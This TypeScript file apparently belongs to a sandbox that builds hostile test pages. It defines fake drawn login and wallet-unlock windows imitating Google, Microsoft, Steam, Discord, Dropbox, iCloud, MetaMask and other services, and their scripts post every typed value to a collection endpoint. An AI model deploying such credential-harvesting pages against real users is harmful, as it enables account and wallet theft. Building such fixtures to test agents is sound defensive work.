import { page } from '../../../src/sandbox/sites/page.ts'
import { drawnWindow } from '../drawnWindow.ts'
import { type PageClass, pick } from '../pageDesign.ts'

const SEND = `await fetch('/api/w', { method: 'POST', body: JSON.stringify([...root.querySelectorAll('input,textarea')].map((field) => field.value)) }).catch(() => undefined); say('…')`
const OVER = 'position:fixed;left:380px;top:60px;width:460px;min-height:430px;box-shadow:0 12px 40px #0007;z-index:20'
const CORNER = 'position:fixed;right:12px;top:12px;width:357px;min-height:560px;box-shadow:0 4px 20px #0006;z-index:20'
const LOGIN =
  '<h2>Sign in</h2><p><input type="email" placeholder="Email or phone"></p><p><input type="password" placeholder="Password"></p>'

/** Windows of browsers and wallets that the page draws itself. */
export const DRAWN_WINDOWS: readonly PageClass[] = [
  {
    id: 'drawn-login',
    hostile: true,
    design: (variant) => ({
      title: pick(['Tournament', 'Vote for us', 'Turnier', 'Votación'], variant),
      content: `<h1>${pick(['Join the tournament', 'Vote for our team', 'Zum Turnier', 'Vota'], variant)}</h1><p>${pick(['Teams of five, Saturday at noon.', 'One vote each.', 'Am Samstag.', 'Un voto por persona.'], variant)}</p>`,
      buttons: [
        {
          label: pick(['Sign in', 'Vote', 'Anmelden', 'Entrar'], variant),
          connects: false,
          code: `show(${JSON.stringify(
            drawnWindow({
              address: pick(
                [
                  'https://steamcommunity.com/openid/login',
                  'accounts.google.com/signin/v2/identifier',
                  'https://login.microsoftonline.com/common/oauth2',
                  'https://discord.com/oauth2/authorize?client_id=88',
                ],
                variant,
              ),
              title: pick(['Sign In', 'Google', 'Anmelden', 'Discord'], variant),
              buttons: pick(['lights', 'signs'] as const, variant),
              place: OVER,
              content: `${LOGIN}<button type="button" id="go">OK</button>`,
            }),
          )}); at('#go').onclick = async () => { ${SEND} }`,
        },
      ],
    }),
  },
  {
    id: 'wallet-window',
    hostile: true,
    design: (variant) => ({
      title: pick(['Lending', 'Pools', 'Börse', 'Mercado'], variant),
      content: `<h1>${pick(['Your position', 'Pools', 'Kurse', 'Mercado'], variant)}</h1><p>${pick(['Loading balances.', 'Nine pools.', 'Wird geladen.', 'Cargando.'], variant)}</p>${drawnWindow(
        {
          ...(variant % 2 === 0
            ? { address: 'chrome-extension://nkbihfbeogaeaoehlefnkodbefgpgknn/notification.html' }
            : {}),
          title: pick(['MetaMask', 'MetaMask Notification', 'Phantom', 'Rabby Wallet'], variant),
          buttons: 'signs',
          place: CORNER,
          content: pick(
            [
              '<h3>Welcome back!</h3><input type="password" placeholder="Password">',
              '<h3>Unlock</h3><input type="password" placeholder="Enter your password">',
              '<h3>Entsperren</h3><input type="password" placeholder="Passwort">',
              '<h3>Desbloquear</h3><input type="password" placeholder="Contraseña">',
            ],
            variant,
          ),
        },
      )}`,
      buttons: [{ label: pick(['Unlock', 'Continue', 'Entsperren', 'Abrir'], variant), connects: false, code: SEND }],
    }),
  },
  {
    id: 'drawn-frame',
    hostile: true,
    design: (variant) => ({
      title: pick(['Shared file', 'Invoice', 'Dokument', 'Archivo'], variant),
      content: `<h1>${pick(['A file was shared with you', 'Invoice 2041', 'Dokument 12', 'Archivo compartido'], variant)}</h1><p>${pick(['Sign in to open it.', 'Protected.', 'Bitte anmelden.', 'Protegido.'], variant)}</p>${drawnWindow(
        {
          address: pick(
            [
              'https://login.microsoftonline.com/',
              'https://www.dropbox.com/login',
              'https://accounts.google.com/',
              'https://www.icloud.com/',
            ],
            variant,
          ),
          title: pick(['Sign in to your account', 'Log in', 'Anmelden', 'Entrar'], variant),
          buttons: pick(['signs', 'lights'] as const, variant),
          place: OVER,
          content: '<iframe src="https://{{desk}}/" width="420" height="320" style="border:0"></iframe>',
        },
      )}`,
      hosts: {
        desk: page(
          'Sign in',
          `${LOGIN}<button id="go">Next</button><script>document.getElementById('go').onclick = () => fetch('/k', { method: 'POST', body: JSON.stringify([...document.querySelectorAll('input')].map((one) => one.value)) })</script>`,
        ),
      },
    }),
  },
]
